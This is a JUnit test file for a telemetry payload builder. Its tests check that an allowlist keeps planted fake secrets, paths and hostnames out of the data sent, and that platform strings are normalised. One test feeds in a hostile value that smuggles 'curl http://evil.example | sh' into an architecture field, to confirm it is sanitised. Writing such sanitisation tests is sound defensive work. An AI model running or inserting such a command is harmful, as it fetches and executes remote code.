package ai.treqs.roar.telemetry.payload;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.TreeMap;
import java.util.UUID;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import ai.treqs.roar.telemetry.env.MachineFacts;
import ai.treqs.roar.telemetry.io.Json;
import ai.treqs.roar.telemetry.policy.Trigger;
import ai.treqs.roar.telemetry.stats.Stats;

/** docs/telemetry.md#what-is-collected: only what the allowlist names may ever leave the machine. */
class PayloadBuilderTest {

    /** The 14 documented keys (docs/telemetry.md#what-is-collected), written out here rather than taken from the production constant. */
    static final Set<String> DOCUMENTED_KEYS = Set.of("payload_schema_version", "stats_schema_version", "event_id",
            "install_id", "sequence", "first_seen", "trigger", "trigger_ts", "counters_as_of", "version", "platform",
            "subcommand_counts", "tracer_selections", "feature_capabilities");

    /** A stats file someone (a bug, a newer roar, a curious user) stuffed with things that must never leave. */
    static Stats stuffedStats() {
        Stats stats = PayloadFixtures.stats("""
                {"stats_schema_version":1,"install_id":"%s","first_seen":"2026-11-01T09:00:00Z",
                 "updated_at":"2026-11-20T10:00:00Z","sequence":9,
                 "hostname":"alice-laptop.corp.example",
                 "cwd":"/home/alice/secret-project",
                 "env":{"API_KEY":"sk-live-abcdef123456","AWS_SECRET_ACCESS_KEY":"wJalrXUtnFEMI"},
                 "git_remote":"git@github.com:alice/secret-project.git",
                 "feature_flags":{"new_ui":true},
                 "version_milestones":{"0.3.0":{"first_seen":"2026-11-01T09:00:00Z","note":"/home/alice"}},
                 "subcommand_counts":{"run":3,"run_success":2,"init":1,
                   "python train.py --api-key=sk-123":5,"/home/alice/bin/tool":1,"API_KEY=sk-live-abcdef123456":2,
                   "future_command":4,"reset":0},
                 "tracer_selections":{"ptrace":2,"/usr/bin/strace":1,"ebpf":0},
                 "feature_capabilities":{"glaas_endpoint_kind":"https://internal.corp.example/collect",
                   "blake3_available":true,"proxy_enabled":"yes","ray_enabled":true,
                   "hostname":"alice-laptop.corp.example","custom_flag":true}}
                """.formatted(PayloadFixtures.INSTALL_ID));
        // Stats refuses negative counters on load; a bug could still put one there in memory
        stats.subcommandCounts().put("build", -4L);
        stats.subcommandCounts().put("show", 0L);
        stats.tracerSelections().put("native", -1L);
        return stats;
    }

    static Map<String, Object> buildStuffed() {
        return PayloadBuilder.build(stuffedStats(), Trigger.FIRST_SUCCESSFUL_ROAR_RUN, 10, PayloadFixtures.EVENT_ID,
                Instant.parse("2026-11-20T10:00:01.500Z"), "0.3.0", Platform.of("Linux", "amd64"));
    }

    @Test
    void aStuffedStatsFileYieldsExactlyTheFourteenAllowlistedKeys() {
        Map<String, Object> payload = buildStuffed();
        assertEquals(DOCUMENTED_KEYS, payload.keySet());
        assertEquals(Set.copyOf(Allowlist.TOP_LEVEL_KEYS), DOCUMENTED_KEYS);
        assertEquals(Optional.empty(), Allowlist.violation(payload));
    }

    @Test
    void nothingStuffedIntoStatsAppearsInTheBytesThatWouldBeSent() {
        String sent = new String(Json.write(buildStuffed()), StandardCharsets.UTF_8);
        for (String secret : List.of("python", "train.py", "api-key", "sk-123", "sk-live", "API_KEY", "AWS_SECRET",
                "wJalrXUtnFEMI", "alice", "/home", "secret-project", "hostname", "corp.example", "git@", "github",
                "future_command", "strace", "/usr/bin", "feature_flags", "new_ui", "custom_flag", "note", "cwd",
                "\"env\"", "0.3.0\":", "version_milestones")) {
            assertFalse(sent.contains(secret), () -> "'" + secret + "' leaked into " + sent);
        }
    }

    @Test
    void countersKeepOnlyAllowlistedNamesAboveZero() {
        Map<String, Object> payload = buildStuffed();
        assertEquals(Map.of("run", 3L, "run_success", 2L, "init", 1L), payload.get("subcommand_counts"));
        assertEquals(Map.of("ptrace", 2L), payload.get("tracer_selections"));
    }

    @Test
    void featureCapabilitiesKeepOnlyKnownFlagsWithTheRightTypes() {
        assertEquals(Map.of("blake3_available", true, "ray_enabled", true), buildStuffed().get("feature_capabilities"));
    }

    @Test
    void theIdentityAndTimesComeFromTheSnapshotAndTheTrigger() {
        Map<String, Object> payload = buildStuffed();
        Map<String, Object> expected = new TreeMap<>();
        expected.put("payload_schema_version", 1L);
        expected.put("stats_schema_version", 1L);
        expected.put("event_id", PayloadFixtures.EVENT_ID);
        expected.put("install_id", PayloadFixtures.INSTALL_ID);
        expected.put("sequence", 10L);
        expected.put("first_seen", "2026-11-01T09:00:00Z");
        expected.put("trigger", "first_successful_roar_run");
        expected.put("trigger_ts", "2026-11-20T10:00:01Z");
        expected.put("counters_as_of", "2026-11-20T10:00:00Z");
        expected.put("version", "0.3.0");
        expected.put("platform", Map.of("os", "linux", "arch", "x86_64"));
        expected.put("subcommand_counts", Map.of("run", 3L, "run_success", 2L, "init", 1L));
        expected.put("tracer_selections", Map.of("ptrace", 2L));
        expected.put("feature_capabilities", Map.of("blake3_available", true, "ray_enabled", true));
        assertEquals(expected, payload);
    }

    @Test
    void theSerializedPayloadIsOneCompactSortedLine() {
        String json = Json.writeString(PayloadFixtures.validPayload());
        assertEquals("{\"counters_as_of\":\"2026-11-20T10:00:00Z\",\"event_id\":\"" + PayloadFixtures.EVENT_ID + "\","
                + "\"feature_capabilities\":{\"blake3_available\":false,\"ebpf_supported\":true,"
                + "\"glaas_endpoint_kind\":\"default_prod\",\"osmo_enabled\":false,\"proxy_enabled\":false,"
                + "\"ray_enabled\":false},\"first_seen\":\"2026-11-01T09:00:00Z\",\"install_id\":\""
                + PayloadFixtures.INSTALL_ID + "\",\"payload_schema_version\":1,"
                + "\"platform\":{\"arch\":\"x86_64\",\"os\":\"linux\"},\"sequence\":5,\"stats_schema_version\":1,"
                + "\"subcommand_counts\":{\"init\":1,\"run\":3,\"run_success\":2},"
                + "\"tracer_selections\":{\"disabled\":3},\"trigger\":\"init\",\"trigger_ts\":\"2026-11-20T10:00:00Z\","
                + "\"version\":\"0.3.0\"}", json);
    }

    @Test
    void aFreshEventIdIsARandomUuidThatTheQueueAccepts() {
        String a = PayloadBuilder.newEventId();
        String b = PayloadBuilder.newEventId();
        assertFalse(a.equals(b));
        assertEquals(4, UUID.fromString(a).version());
        assertTrue(Allowlist.isValidEventId(a));
    }

    @ParameterizedTest(name = "{0} / {1} -> {2} / {3}")
    @CsvSource({
        "Linux, amd64, linux, x86_64",
        "Linux, x86_64, linux, x86_64",
        "Linux, AMD64, linux, x86_64",
        "Linux, aarch64, linux, arm64",
        "Linux, ppc64le, linux, ppc64le",
        "Linux, riscv64, linux, riscv64",
        "Linux, s390x, linux, s390x",
        "Mac OS X, aarch64, macos, arm64",
        "Mac OS X, x86_64, macos, x86_64",
        "Darwin, arm64, macos, arm64",
        "Windows 11, amd64, windows, x86_64",
        "Windows Server 2022, x86, windows, x86",
        "FreeBSD, amd64, other, x86_64",
        "SunOS, sparcv9, other, sparcv9",
        "AIX, ppc64, other, ppc64",
        "'', '', other, unknown",
    })
    void platformIsTheOsClassAndANormalisedArchitecture(String osName, String osArch, String os, String arch) {
        Platform platform = Platform.of(osName, osArch);
        assertEquals(new Platform(os, arch), platform);
        assertEquals(Map.of("os", os, "arch", arch), platform.asJsonObject());
    }

    @Test
    void aHostileArchitectureStringCannotCarryAnythingButAShortToken() {
        Platform p = Platform.of("Linux 6.1 alice-laptop", "x86 64; curl http://evil.example | sh");
        assertEquals("linux", p.os());
        assertTrue(p.arch().matches("[a-z0-9_]{1,16}"), p.arch());
        assertEquals(Optional.empty(), Allowlist.violation(withPlatform(p)));
    }

    @Test
    void theCurrentPlatformPassesTheAllowlist() {
        MachineFacts machine = MachineFacts.probe();
        Platform p = Platform.of(machine.osName(), machine.osArch());
        assertTrue(Allowlist.OS_CLASSES.contains(p.os()), p.os());
        assertEquals(Optional.empty(), Allowlist.violation(withPlatform(p)));
    }

    private static Map<String, Object> withPlatform(Platform p) {
        Map<String, Object> payload = PayloadFixtures.validPayload();
        payload.put("platform", p.asJsonObject());
        return payload;
    }
}
